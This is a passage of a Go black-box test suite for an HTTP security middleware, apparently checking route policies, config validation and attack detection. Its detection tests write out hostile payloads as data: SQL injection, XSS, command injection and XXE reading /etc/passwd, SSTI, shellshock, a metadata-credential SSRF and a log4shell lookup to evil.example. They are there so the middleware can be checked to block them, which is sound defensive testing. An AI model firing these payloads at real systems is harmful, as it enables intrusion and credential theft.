				h = append(h, fmt.Sprintf("X-H%d: v%d", i, i))
			}
			return h
		}()...)...)},
		{name: "odd method", raw: raw("FOO / HTTP/1.1", "Host: x"), noKey: true},
		{name: "PROPFIND", raw: raw("PROPFIND /echo HTTP/1.1", "Host: x"), noKey: true},
		{name: "lowercase method", raw: raw("get / HTTP/1.1", "Host: x"), noKey: true},
		{name: "DELETE on a GET route", raw: raw("DELETE /items/1 HTTP/1.1", "Host: x"), noKey: true},
		{name: "duplicate X-Forwarded-For", raw: raw("GET / HTTP/1.1", "Host: x", "X-Forwarded-For: 198.51.100.1", "X-Forwarded-For: 198.51.100.2")},
		{name: "duplicate Content-Type", raw: "POST /echo HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\n{}"},
		{name: "duplicate Cookie", raw: raw("GET / HTTP/1.1", "Host: x", "Cookie: a=1", "Cookie: b=2")},
		{name: "conflicting Content-Length", raw: "POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}"},
		{name: "absolute-form target", raw: raw("GET http://shop.example/echo?x=1 HTTP/1.1", "Host: shop.example")},
		{name: "absolute-form https target", raw: raw("GET https://shop.example/items/3 HTTP/1.1", "Host: other.example")},
		{name: "asterisk target", raw: raw("OPTIONS * HTTP/1.1", "Host: x")},
		{name: "NUL in query", raw: raw("GET /echo?q=%00%00 HTTP/1.1", "Host: x")},
		{name: "dot segments", raw: raw("GET /items/../../../health HTTP/1.1", "Host: x")},
		{name: "double slashes", raw: raw("GET //items//1 HTTP/1.1", "Host: x"), noKey: true},
		{name: "HTTP/1.0 without Host", raw: raw("GET / HTTP/1.0")},
		{name: "bad JSON with JSON type", raw: "POST /echo HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 8\r\n\r\n{\"a\":[1,"},
		{name: "bad multipart", raw: "POST /echo HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=zz\r\nContent-Length: 11\r\n\r\n--zz\r\nbroken"},
		{name: "multipart without boundary", raw: "POST /echo HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data\r\nContent-Length: 3\r\n\r\nabc"},
		{name: "bad Content-Type", raw: "POST /echo HTTP/1.1\r\nHost: x\r\nContent-Type: ;;;===\r\nContent-Length: 3\r\n\r\nabc"},
		{name: "deeply nested JSON", raw: func() string {
			b := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
			return fmt.Sprintf("POST /echo HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(b), b)
		}()},
		{name: "bad chunked encoding", raw: "POST /echo HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n"},
		{name: "garbage Authorization", raw: raw("GET / HTTP/1.1", "Host: x", "Authorization: Bearer \xff")},
		{name: "garbage X-Forwarded-Proto", raw: raw("GET / HTTP/1.1", "Host: x", "X-Forwarded-Proto: \xff://")},
		{name: "very long path", raw: raw("GET /items/"+strings.Repeat("a", 60000)+" HTTP/1.1", "Host: x")},
		{name: "very long query", raw: raw("GET /echo?"+strings.Repeat("k=v&", 15000)+" HTTP/1.1", "Host: x")},
	}
	// Unrouted methods and paths are answered by each framework's router
	// (404/405/307 differ); those steps are only held to "never 5xx".
	for i := range steps {
		steps[i].below500 = true
	}
	runScenarios(t, []bbScenario{{
		name: "raw requests",
		config: `
trusted_proxies: [127.0.0.1]
enforce_https: false
rate_limit: 1000
`,
		steps: steps,
	}})
}

// ---------------------------------------------------------------------------
// Config errors

func runBadConfig(t *testing.T, config, ext, adapter string) (string, error) {
	t.Helper()
	cfgPath := filepath.Join(t.TempDir(), "bad."+ext)
	if err := os.WriteFile(cfgPath, []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(serverBin, "-config", cfgPath, "-addr", freeAddr(t), "-adapter", adapter)
	done := make(chan struct{})
	var out []byte
	var err error
	go func() { out, err = cmd.CombinedOutput(); close(done) }()
	select {
	case <-done:
		return string(out), err
	case <-time.After(10 * time.Second):
		_ = cmd.Process.Kill()
		<-done
		return string(out), fmt.Errorf("still running after 10 s (no error)")
	}
}

func TestBlackboxConfigErrors(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, ext, config string
		want              []string
	}{
		{"every bad field at once (YAML)", "yaml", `
blacklist: [10.0.0.0/33, not-an-ip]
whitelist: ["2001:db8::/129"]
rate_limit_window: 0
auto_ban_threshold: -1
blocked_user_agents: ["(unclosed"]
enable_cors: true
cors_allow_origins: ["*"]
cors_allow_credentials: true
security_headers:
  custom:
    X-Evil: "a\r\nSet-Cookie: x=1"
block_cloud_providers: [NotACloud]
`, []string{"blacklist", "whitelist", "rate_limit_window", "auto_ban_threshold", "blocked_user_agents", "cors", "security_headers", "block_cloud_providers"}},
		{"every bad field at once (JSON)", "json", `{
  "blacklist": ["10.0.0.0/33"],
  "trusted_proxies": ["nope"],
  "rate_limit_window": -5,
  "blocked_user_agents": ["(unclosed"],
  "emergency_whitelist": ["300.1.1.1"]
}`, []string{"blacklist", "trusted_proxies", "rate_limit_window", "blocked_user_agents", "emergency_whitelist"}},
		{"unknown field (YAML)", "yaml", "rate_limit: 5\nrate_limt_window: 60\n", []string{"rate_limt_window"}},
		{"unknown field (JSON)", "json", `{"rate_limit": 5, "blacklistt": []}`, []string{"blacklistt"}},
		{"syntax error (JSON)", "json", `{"rate_limit": 5,`, []string{}},
		{"routes: unknown key, bad CIDR, bad time zone", "yaml", `
routes:
  - path: /items/{id}
    rate_limt: {requests: 1, window: 1}
`, []string{"rate_limt"}},
		{"routes: several errors named at once", "yaml", `
routes:
  - path: /items/{id}
    require_ip: {whitelist: [10.0.0.0/33]}
  - path: /lottery
    time_window: {start: "09:00", end: "17:00", timezone: Mars/Base}
  - path: /health
    bypass: [everything]
  - path: /echo
    block_clouds: [NotACloud]
  - path: /login
    time_window: {start: "25:00", end: "17:00"}
`, []string{"routes[0]", "whitelist", "routes[1]", "timezone", "routes[2]", "bypass", "routes[3]", "block_clouds", "routes[4]"}},
		{"routes: bad rules", "yaml", `
routes:
  - path: /lottery
    return_monitor: {pattern: "regex:([", max_occurrences: 3, window: 60, action: ban}
  - path: /items/{id}
    usage_monitor: {max_calls: 3, window: 60, action: explode}
  - path: /health
    usage_monitor: {max_calls: 3, window: 0, action: ban}
`, []string{"routes[0]", "pattern", "routes[1]", "action", "routes[2]", "window"}},
		{"global behaviour rule invalid", "yaml", `
global_behavior_rules:
  - {rule_type: return_pattern, pattern: "status:abc", threshold: 3, window: 60, action: ban}
  - {rule_type: teleport, threshold: 3, window: 60, action: ban}
`, []string{"global_behavior_rules[0]", "global_behavior_rules[1]"}},
		{"country rules without a database", "yaml", "routes:\n  - path: /lottery\n    block_countries: [CN]\n", []string{"geoip_database"}},
		{"cloud range file missing", "yaml", "block_cloud_providers: [AWS]\ncloud_ranges: {AWS: /nonexistent/aws.json}\n", []string{"AWS"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			for _, a := range adapterNames {
				out, err := runBadConfig(t, tc.config, tc.ext, a)
				if err == nil {
					t.Fatalf("%s: server accepted a bad config:\n%s", a, out)
				}
				if _, ok := err.(*exec.ExitError); !ok {
					t.Fatalf("%s: %v\n%s", a, err, out)
				}
				for _, w := range tc.want {
					if !strings.Contains(out, w) {
						t.Errorf("%s: output does not name %q:\n%s", a, w, out)
					}
				}
			}
		})
	}
}

// ---------------------------------------------------------------------------
// Route policies from `routes:` (issue 4, design §5)

// cloudRanges points every provider at its fixture so nothing is downloaded.
func cloudRanges(t *testing.T) string {
	c := func(f string) string { return strconv.Quote(repoTestdata(t, "cloud", f)) }
	return fmt.Sprintf(`cloud_ranges:
  AWS: %s
  GCP: %s
  Azure: %s
  DigitalOcean: %s
  Linode: %s
  Vultr: %s
  Cloudflare: %s
`, c("aws-ip-ranges.json"), c("gcp-cloud.json"), c("azure-servicetags.json"), c("digitalocean.csv"),
		c("linode.csv"), c("vultr.json"), strconv.Quote(repoTestdata(t, "cloud", "cloudflare-ips-v4.txt")+","+repoTestdata(t, "cloud", "cloudflare-ips-v6.txt")))
}

func TestBlackboxRouteAccessPolicies(t *testing.T) {
	t.Parallel()
	geo := strconv.Quote(repoTestdata(t, "geo", "country.mmdb"))
	runScenarios(t, []bbScenario{
		{
			name: "require_ip, countries, clouds, user agents",
			config: `
trusted_proxies: [127.0.0.1]
geoip_database: ` + geo + `
` + cloudRanges(t) + `
routes:
  - path: /items/{id}
    require_ip: {whitelist: [10.0.0.0/8, "2001:db8:1::/48"]}
  - path: /lottery
    block_countries: [CN]
  - path: /health
    allow_countries: [DE, FR]
  - path: /echo
    block_clouds: [AWS]
  - path: /
    block_clouds: []
  - path: /login
    methods: [POST]
    block_user_agents: ["^python-requests"]
`,
			steps: []bbStep{
				{name: "require_ip v4 inside", call: call{path: "/items/1", header: xff("10.1.2.3")}, status: 200, body: `{"id":"1"}`},
				{name: "require_ip v6 inside", call: call{path: "/items/2", header: xff("2001:db8:1::9")}, status: 200},
				{name: "require_ip outside", call: call{path: "/items/3", header: xff("192.0.2.1")}, status: 403},
				{name: "require_ip only on its route", call: call{path: "/lottery", header: xff("192.0.2.1")}, status: 200},
				{name: "route block_countries CN", call: call{path: "/lottery", header: xff("192.0.2.33")}, status: 403},
				{name: "route block_countries CN v6", call: call{path: "/lottery", header: xff("2001:db8:2::1")}, status: 403},
				{name: "route block_countries CN mapped", call: call{path: "/lottery", header: xff("::ffff:203.0.113.7")}, status: 403},
				{name: "block_countries only on its route", call: call{path: "/echo", header: xff("192.0.2.34")}, status: 200},
				{name: "route allow_countries DE", call: call{path: "/health", header: xff("192.0.2.97")}, status: 200},
				{name: "route allow_countries FR v6", call: call{path: "/health", header: xff("2001:db8:5::1")}, status: 200},
				{name: "route allow_countries refuses US", call: call{path: "/health", header: xff("192.0.2.1")}, status: 403},
				{name: "route block_clouds AWS v4", call: call{path: "/echo", header: xff("3.5.140.10")}, status: 403},
				{name: "route block_clouds AWS v6", call: call{path: "/echo", header: xff("2600:1f14::1")}, status: 403},
				{name: "route block_clouds AWS lets GCP pass", call: call{path: "/echo", header: xff("34.80.1.1")}, status: 200},
				{name: "route block_clouds [] = all: GCP v6", call: call{path: "/", header: xff("2600:1900:4000::1")}, status: 403},
				{name: "route block_clouds [] = all: Azure", call: call{path: "/", header: xff("13.66.60.119")}, status: 403},
				{name: "route block_clouds [] = all: Cloudflare mapped", call: call{path: "/", header: xff("::ffff:104.16.1.1")}, status: 403},
				{name: "route block_clouds [] = all: not a cloud", call: call{path: "/", header: xff("13.66.60.120")}, status: 200},
				{name: "clouds only on their routes", call: call{path: "/items/4", header: xff("10.3.5.140")}, status: 200},
				{name: "route UA", call: call{method: "POST", path: "/login", header: hdr("X-Forwarded-For", "198.51.100.1", "User-Agent", "python-requests/2.31")}, status: 403},
				{name: "route UA case-insensitive", call: call{method: "POST", path: "/login", header: hdr("X-Forwarded-For", "198.51.100.1", "User-Agent", "Python-Requests/2.31")}, status: 403},
				{name: "route UA other agent", call: call{method: "POST", path: "/login", header: hdr("X-Forwarded-For", "198.51.100.1", "User-Agent", "Mozilla/5.0")}, status: 200},
				{name: "route UA only on its route", call: call{path: "/", header: hdr("X-Forwarded-For", "198.51.100.2", "User-Agent", "python-requests/2.31")}, status: 200},
			},
		},
		{
			name: "global cloud and country blocks (AWS and GCP, v4 and v6)",
			config: `
trusted_proxies: [127.0.0.1]
geoip_database: ` + geo + `
blocked_countries: [RU]
block_cloud_providers: [AWS, GCP]
` + cloudRanges(t) + `
routes:
  - path: /health
    bypass: [clouds]
`,
			steps: []bbStep{
				{name: "AWS v4", call: call{path: "/", header: xff("52.94.76.5")}, status: 403},
				{name: "AWS v6", call: call{path: "/", header: xff("2a05:d07a:a000::1")}, status: 403},
				{name: "GCP v4", call: call{path: "/", header: xff("35.185.130.1")}, status: 403},
				{name: "GCP v6", call: call{path: "/", header: xff("2600:1900:4000::1")}, status: 403},
				{name: "Azure not blocked", call: call{path: "/", header: xff("40.71.1.1")}, status: 200},
				{name: "RU", call: call{path: "/", header: xff("192.0.2.65")}, status: 403},
				{name: "RU v6", call: call{path: "/", header: xff("2001:db8:3::1")}, status: 403},
				{name: "unresolved passes a block list", call: call{path: "/", header: xff("192.0.2.225")}, status: 200},
				{name: "bypass clouds on a route", call: call{path: "/health", header: xff("3.5.140.10")}, status: 200},
				{name: "bypass clouds keeps countries", call: call{path: "/health", header: xff("192.0.2.66")}, status: 403},
			},
		},
		{
			name: "bypass",
			config: `
trusted_proxies: [127.0.0.1]
blacklist: [203.0.113.0/24]
blocked_user_agents: [badbot]
rate_limit: 1
rate_limit_window: 60
routes:
  - path: /health
    bypass: [all]
  - path: /
    bypass: [rate_limit]
  - path: /lottery
    bypass: [ip]
  - path: /echo
    bypass: [penetration]
`,
			steps: []bbStep{
				{name: "bypass all: blacklisted", call: call{path: "/health", header: xff("203.0.113.1")}, status: 200},
				{name: "bypass all: UA", call: call{path: "/health", header: hdr("X-Forwarded-For", "198.51.100.1", "User-Agent", "badbot")}, status: 200},
				{name: "bypass all: attack", call: call{path: "/health?q=%27%20UNION%20SELECT%20password%20FROM%20users--", header: xff("198.51.100.1")}, status: 200},
				{name: "bypass rate_limit 1", call: call{path: "/", header: xff("198.51.100.2")}, status: 200},
				{name: "bypass rate_limit 2", call: call{path: "/", header: xff("198.51.100.2")}, status: 200},
				{name: "bypass rate_limit 3", call: call{path: "/", header: xff("198.51.100.2")}, status: 200},
				{name: "bypass rate_limit keeps blacklist", call: call{path: "/", header: xff("203.0.113.2")}, status: 403},
				{name: "bypass ip: blacklisted", call: call{path: "/lottery", header: xff("203.0.113.3")}, status: 200},
				{name: "bypass penetration", call: call{path: "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", header: xff("198.51.100.4")}, status: 200},
				{name: "bypass penetration keeps rate limit", call: call{path: "/echo", header: xff("198.51.100.4")}, status: 429},
			},
		},
	})
}

func TestBlackboxRouteContentPolicies(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("x", 200)
	runScenarios(t, []bbScenario{
		{
			name: "limits, types, headers, auth, referrer, https",
			config: `
trusted_proxies: [127.0.0.1]
routes:
  - path: /items/:id
    rate_limit: {requests: 2, window: 2}
  - path: /echo
    methods: [POST]
    content_type_filter: [application/json]
    max_request_size: 100
  - path: /lottery
    require_headers: {X-Tenant: required}
    require_auth: {type: bearer}
  - path: /health
    api_key_auth: {header: X-API-Key}
  - path: /login
    require_referrer: [example.com]
  - path: /
    require_https: true
`,
			steps: []bbStep{
				{name: "route limit 1", call: call{path: "/items/7", header: xff("198.51.100.1")}, status: 200},
				{name: "route limit 2", call: call{path: "/items/8", header: xff("198.51.100.1")}, status: 200},
				{name: "route limit 3 (same template)", call: call{path: "/items/9", header: xff("198.51.100.1")}, status: 429, retry: 2},
				{name: "route limit other client", call: call{path: "/items/7", header: xff("198.51.100.2")}, status: 200},
				{name: "route limit after window", wait: 2200 * time.Millisecond, call: call{path: "/items/7", header: xff("198.51.100.1")}, status: 200},
				{name: "content type refused", call: call{method: "POST", path: "/echo", body: "hi", header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "text/plain")}, status: 415},
				{name: "content type missing", call: call{method: "POST", path: "/echo", body: "hi", header: xff("198.51.100.3")}, status: 415},
				{name: "content type with charset", call: call{method: "POST", path: "/echo", body: `{"a":1}`, header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "application/json; charset=utf-8")}, status: 200, echo: []byte(`{"a":1}`)},
				{name: "too large", call: call{method: "POST", path: "/echo", body: `{"a":"` + big + `"}`, header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "application/json")}, status: 413},
				{name: "too large chunked", call: call{method: "POST", path: "/echo", body: `{"a":"` + big + `"}`, header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "application/json")}, chunk: true, status: 413},
				{name: "exactly the limit", call: call{method: "POST", path: "/echo", body: `{"a":"` + strings.Repeat("y", 92) + `"}`, header: hdr("X-Forwarded-For", "198.51.100.3", "Content-Type", "application/json")}, status: 200},
				{name: "methods filter: GET /echo not covered", call: call{path: "/echo", header: xff("198.51.100.3")}, status: 200},
				{name: "require_headers missing", call: call{path: "/lottery", header: xff("198.51.100.4")}, status: 400},
				{name: "auth missing", call: call{path: "/lottery", header: hdr("X-Forwarded-For", "198.51.100.4", "X-Tenant", "a")}, status: 401},
				{name: "auth wrong scheme", call: call{path: "/lottery", header: hdr("X-Forwarded-For", "198.51.100.4", "X-Tenant", "a", "Authorization", "Basic dTpw")}, status: 401},
				{name: "auth bearer", call: call{path: "/lottery?outcome=win", header: hdr("X-Forwarded-For", "198.51.100.4", "X-Tenant", "a", "Authorization", "Bearer abc.def")}, status: 200, body: `{"result":"win"}`},
				{name: "api key missing", call: call{path: "/health", header: xff("198.51.100.5")}, status: 401},
				{name: "api key present", call: call{path: "/health", header: hdr("X-Forwarded-For", "198.51.100.5", "X-API-Key", "k-123")}, status: 200},
				{name: "referrer missing", call: call{method: "POST", path: "/login", header: xff("198.51.100.6")}, status: 403},
				{name: "referrer allowed", call: call{method: "POST", path: "/login", header: hdr("X-Forwarded-For", "198.51.100.6", "Referer", "https://example.com/form")}, status: 200},
				{name: "referrer other site", call: call{method: "POST", path: "/login", header: hdr("X-Forwarded-For", "198.51.100.6", "Referer", "https://evil.test/")}, status: 403},
				{name: "referrer look-alike host", call: call{method: "POST", path: "/login", header: hdr("X-Forwarded-For", "198.51.100.6", "Referer", "https://example.com.evil.test/")}, status: 403},
				{name: "require_https", call: call{path: "/?x=1", header: hdr("X-Forwarded-For", "198.51.100.7", "Host", "shop.example")}, status: 301, header: hdr("Location", "https://shop.example/?x=1")},
				{name: "require_https only on its route", call: call{path: "/health", header: hdr("X-Forwarded-For", "198.51.100.7", "X-API-Key", "k")}, status: 200},
			},
		},
	})
}

// zoneForWindows picks a zone at least two hours from UTC whose local hour
// leaves room for ±3 h windows that do not wrap by accident.
func zoneForWindows(t *testing.T) (*time.Location, string) {
	for _, n := range []string{"Asia/Tokyo", "America/New_York", "Australia/Sydney", "Asia/Kolkata", "America/Los_Angeles"} {
		loc, err := time.LoadLocation(n)
		if err != nil {
			continue
		}
		if h := time.Now().In(loc).Hour(); h >= 4 && h <= 19 {
			return loc, n
		}
	}
	t.Fatal("no usable time zone")
	return nil, ""
}

func TestBlackboxRouteTimeWindows(t *testing.T) {
	t.Parallel()
	loc, zone := zoneForWindows(t)
	at := func(d time.Duration) string { return time.Now().In(loc).Add(d).Format("15:04") }
	config := fmt.Sprintf(`
routes:
  - path: /items/{id}
    time_window: {start: %q, end: %q, timezone: %s}
  - path: /lottery
    time_window: {start: %q, end: %q, timezone: %s}
  - path: /health
    time_window: {start: %q, end: %q, timezone: %s}
  - path: /echo
    time_window: {start: %q, end: %q, timezone: %s}
`, at(2*time.Hour), at(3*time.Hour), zone, // later today: closed now
		at(-2*time.Hour), at(2*time.Hour), zone, // around now: open
		at(-1*time.Hour), at(-2*time.Hour), zone, // across midnight, holding now: open
		at(1*time.Hour), at(-1*time.Hour), zone) // across midnight, excluding now: closed
	runScenarios(t, []bbScenario{{
		name:   "time windows in " + zone,
		config: config,
		steps: []bbStep{
			{name: "window later today", call: call{path: "/items/1"}, status: 403},
			{name: "window around now", call: call{path: "/lottery"}, status: 200},
			{name: "across midnight holding now", call: call{path: "/health"}, status: 200},
			{name: "across midnight excluding now", call: call{path: "/echo"}, status: 403},
			{name: "no window", call: call{path: "/"}, status: 200},
		},
	}})
}

func TestBlackboxRouteDetectionSettings(t *testing.T) {
	t.Parallel()
	xss := "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
	runScenarios(t, []bbScenario{{
		name: "suspicious_detection, detection_exclusion, honeypot",
		config: `
trusted_proxies: [127.0.0.1]
routes:
  - path: /echo
    suspicious_detection: false
  - path: /login
    detection_exclusion: {headers: [X-Signature], params: [html], body_fields: [template]}
  - path: /items/{id}
    honeypot_detection: [website]
`,
		steps: []bbStep{
			{name: "detection off: query", call: call{path: "/echo?q=" + xss, header: xff("198.51.100.1")}, status: 200},
			{name: "detection off: body", call: call{method: "POST", path: "/echo", body: "q=1' UNION SELECT password FROM users--", header: hdr("X-Forwarded-For", "198.51.100.1", "Content-Type", "application/x-www-form-urlencoded")}, status: 200},
			{name: "detection on elsewhere", call: call{path: "/?q=" + xss, header: xff("198.51.100.2")}, status: 403},
			{name: "excluded param", call: call{method: "POST", path: "/login?html=" + xss, header: xff("198.51.100.3")}, status: 200},
			{name: "other param still inspected", call: call{method: "POST", path: "/login?other=" + xss, header: xff("198.51.100.4")}, status: 403},
			{name: "excluded header", call: call{method: "POST", path: "/login", header: hdr("X-Forwarded-For", "198.51.100.5", "X-Signature", "<script>alert(document.cookie)</script>")}, status: 200},
			{name: "other header still inspected", call: call{method: "POST", path: "/login", header: hdr("X-Forwarded-For", "198.51.100.6", "X-Other", "<script>alert(document.cookie)</script>")}, status: 403},
			{name: "excluded JSON body field", call: call{method: "POST", path: "/login", body: `{"template":"<script>alert(document.cookie)</script>","name":"bob"}`, header: hdr("X-Forwarded-For", "198.51.100.7", "Content-Type", "application/json")}, status: 200},
			{name: "other JSON body field still inspected", call: call{method: "POST", path: "/login", body: `{"template":"ok","name":"<script>alert(document.cookie)</script>"}`, header: hdr("X-Forwarded-For", "198.51.100.8", "Content-Type", "application/json")}, status: 403},
			{name: "excluded form field", call: call{method: "POST", path: "/login", body: "template=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&name=bob", header: hdr("X-Forwarded-For", "198.51.100.9", "Content-Type", "application/x-www-form-urlencoded")}, status: 200},
			{name: "honeypot empty", call: call{path: "/items/1?name=bob&website=", header: xff("198.51.100.10")}, status: 200},
			{name: "honeypot absent", call: call{path: "/items/1?name=bob", header: xff("198.51.100.10")}, status: 200},
			{name: "honeypot filled", call: call{path: "/items/1?name=bob&website=http%3A%2F%2Fspam.example", header: xff("198.51.100.11")}, status: 403},
		},
	}})
}

// ---------------------------------------------------------------------------
// Detection (issue 3)

// browserHeaders are what a current Chrome sends on a navigation.
func browserHeaders(ip string) map[string]string {
	return hdr(
		"X-Forwarded-For", ip,
		"User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
		"Accept-Language", "en-GB,en;q=0.9,de;q=0.8",
		"Accept-Encoding", "gzip, deflate, br, zstd",
		"Cookie", "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc-_def; theme=dark",
		"Referer", "https://www.google.com/search?q=o%27reilly+go+books",
		"Sec-Ch-Ua", `"Chromium";v="126", "Google Chrome";v="126", "Not-A.Brand";v="99"`,
		"Sec-Fetch-Site", "cross-site",
		"Upgrade-Insecure-Requests", "1",
	)
}

func TestBlackboxDetection(t *testing.T) {
	t.Parallel()
	ip := func(n int) string { return fmt.Sprintf("198.51.100.%d", n) }
	ct := func(n int, typ string) map[string]string { return hdr("X-Forwarded-For", ip(n), "Content-Type", typ) }
	mpAttack := func() (string, string) {
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		_ = w.WriteField("title", "report")
		fw, _ := w.CreateFormFile("file", "../../../../etc/passwd")
		_, _ = fw.Write([]byte("x"))
		_ = w.Close()
		return b.String(), w.FormDataContentType()
	}
	mpBody, mpType := mpAttack()
	markdown := "# Release notes\n\nWe've fixed the *login* bug; see the _changelog_ and **upgrade** soon.\n\n- [docs](https://example.com/docs?page=2&sort=asc)\n- C:\\Users\\bob\\Documents\\report.docx\n\n> Don't forget: 5 < 7 and 7 > 5.\n"
	attacks := []bbStep{
		{name: "sqli in query", call: call{path: "/echo?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"}},
		{name: "tautology in query", call: call{path: "/echo?user=admin%27%20OR%20%271%27=%271"}},
		{name: "xss in query", call: call{path: "/echo?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}},
		{name: "xss in query key", call: call{path: "/echo?%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E=1"}},
		{name: "xss in second value of a key", call: call{path: "/echo?q=hello&q=%3Csvg%20onload%3Dalert(1)%3E"}},
		{name: "path traversal in query", call: call{path: "/echo?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"}},
		{name: "cmdi in query", call: call{path: "/echo?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"}},
		{name: "double-encoded xss", call: call{path: "/echo?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"}},
		{name: "attack in path segment", call: call{path: "/items/%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}},
		{name: "sqli in path segment", call: call{path: "/items/1%20UNION%20SELECT%20password%20FROM%20users"}},
		{name: "sqli in JSON body", call: call{method: "POST", path: "/echo", body: `{"q":"x'; DROP TABLE users; --"}`}, bytes: nil},
		{name: "nosql operator in query key", call: call{path: "/echo?user=admin&password%5B%24ne%5D=1"}},
		{name: "nosql $where in JSON body", call: call{method: "POST", path: "/echo", body: `{"$where":"sleep(5000)"}`}},
		{name: "xss deep in JSON", call: call{method: "POST", path: "/echo", body: `{"a":{"b":[1,{"c":"<script>alert(document.cookie)</script>"}]}}`}},
		{name: "xss in form body", call: call{method: "POST", path: "/echo", body: "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"}},
		{name: "ssti in form body", call: call{method: "POST", path: "/echo", body: "name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}},
		{name: "xxe in XML body", call: call{method: "POST", path: "/echo", body: `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`}},
		{name: "multipart file name traversal", call: call{method: "POST", path: "/echo", body: mpBody}},
		{name: "shellshock in header", call: call{path: "/", header: hdr("X-Custom", "() { :; }; /bin/bash -c 'cat /etc/passwd'")}},
		{name: "xss in Referer", call: call{path: "/", header: hdr("Referer", "https://example.com/?q=<script>alert(document.cookie)</script>")}},
		{name: "sqli in cookie", call: call{path: "/", header: hdr("Cookie", "theme=dark; id=1' UNION SELECT password FROM users--")}},
		{name: "xss in cookie", call: call{path: "/", header: hdr("Cookie", "pref=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")}},
		{name: "ssrf in query", call: call{path: "/echo?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"}},
		{name: "log4shell in header", call: call{path: "/", header: hdr("X-Api-Version", "${jndi:ldap://evil.example/a}")}},
		{name: "crlf injection in query", call: call{path: "/echo?next=%0d%0aSet-Cookie:%20admin=true"}},
		{name: "proto pollution in JSON", call: call{method: "POST", path: "/echo", body: `{"__proto__":{"isAdmin":true}}`}},
	}
	types := map[string]string{
		"sqli in JSON body": "application/json", "nosql $where in JSON body": "application/json", "xss deep in JSON": "application/json",
		"xss in form body": "application/x-www-form-urlencoded", "ssti in form body": "application/x-www-form-urlencoded",
		"xxe in XML body": "application/xml", "multipart file name traversal": mpType, "proto pollution in JSON": "application/json",
	}
	for i := range attacks {
		h := hdr("X-Forwarded-For", ip(10+i))
		if typ, ok := types[attacks[i].name]; ok {
			h["Content-Type"] = typ
		}
		for k, v := range attacks[i].call.header {
			h[k] = v
		}
		attacks[i].call.header = h
		attacks[i].status = 403
	}
	clean := []bbStep{
		{name: "browser GET with query", call: call{path: "/echo?q=O%27Reilly+books&sort=price&page=2&lang=en-GB&ref=nav", header: browserHeaders(ip(100))}, status: 200},
		{name: "browser GET items", call: call{path: "/items/42", header: browserHeaders(ip(100))}, status: 200},
		{name: "form with apostrophes", call: call{method: "POST", path: "/echo", body: "name=O%27Brien&comment=It%27s+a+great+day%2C+isn%27t+it%3F+I%27d+select+the+blue+one+%26+drop+by+later.", header: ct(101, "application/x-www-form-urlencoded")}, status: 200},
		{name: "JSON API", call: call{method: "POST", path: "/echo", body: `{"title":"Meeting notes","body":"Let's update the select box; drop-down order: name, date.","tags":["a","b"],"count":3,"price":"$19.99","email":"bob@example.com"}`, header: ct(102, "application/json")}, status: 200},
		{name: "markdown", call: call{method: "POST", path: "/echo", body: markdown, header: ct(103, "text/markdown")}, status: 200},
		{name: "markdown as JSON value", call: call{method: "POST", path: "/echo", body: func() string { b, _ := json.Marshal(map[string]string{"content": markdown}); return string(b) }(), header: ct(104, "application/json")}, status: 200},
		{name: "search for a code snippet", call: call{path: "/echo?q=how+to+use+%3Cdiv%3E+in+html&page=1", header: browserHeaders(ip(105))}, status: 200},
		{name: "maths", call: call{path: "/echo?expr=x%C2%B2+%2B+y%C2%B2+%3D+r%C2%B2", header: xff(ip(106))}, status: 200},
		{name: "login form", call: call{method: "POST", path: "/login", body: "username=bob&password=Tr0ub4dor%263&remember=on", header: ct(107, "application/x-www-form-urlencoded")}, status: 200},
	}
	var steps []bbStep
	steps = append(steps, attacks...)
	steps = append(steps, clean...)
	runScenarios(t, []bbScenario{{
		name:   "attacks blocked, clean traffic passes",
		config: "trusted_proxies: [127.0.0.1]\nrate_limit: 1000\nauto_ban_threshold: 100\n",
		steps:  steps,
		stderr: []string{"penetration_attempt"},
	}})
}

func TestBlackboxAutoBan(t *testing.T) {
	t.Parallel()
